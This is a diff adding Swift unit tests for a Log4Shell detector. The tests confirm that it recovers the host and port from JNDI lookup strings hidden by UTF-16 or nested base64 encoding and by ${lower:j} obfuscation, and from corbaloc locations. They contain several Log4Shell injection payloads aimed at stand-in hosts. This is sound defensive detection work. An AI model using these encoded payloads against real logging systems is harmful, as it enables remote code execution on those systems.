@@ -23,6 +23,26 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.range == 12..<49)
   }
 
+  @Test(arguments: ["", ":", ": "])
+  func unwrapsBase64OfUTF16AndOfBase64(before: String) {
+    let payload = before + "${jndi:ldap://h.example:389/abc}"
+    let wide = Data(payload.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }).base64EncodedString()
+    for text in [
+      wide, base64(before + base64("${jndi:ldap://h.example:389/abc}")),
+      "p=" + base64(before + base64("${${lower:j}ndi:ldap://h.example:389/abc}")),
+    ] {
+      #expect(log4shell(text)?.host == "h.example", "\(text)")
+      #expect(log4shell(text)?.port == 389)
+    }
+    #expect(log4shell(base64(before + base64("${java.version} and no more than that"))) == nil)
+  }
+
+  @Test func namesTheHostOfACorbaLocation() {
+    let found = log4shell("${jndi:corbaloc::198.51.100.7:1050/a}")
+    #expect(found?.host == "198.51.100.7")
+    #expect(found?.port == 1050)
+  }
+
   @Test(arguments: ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"])
   func knowsEveryScheme(scheme: String) { #expect(log4shell("${jndi:\(scheme)://a.example/x}")?.scheme == scheme) }
 
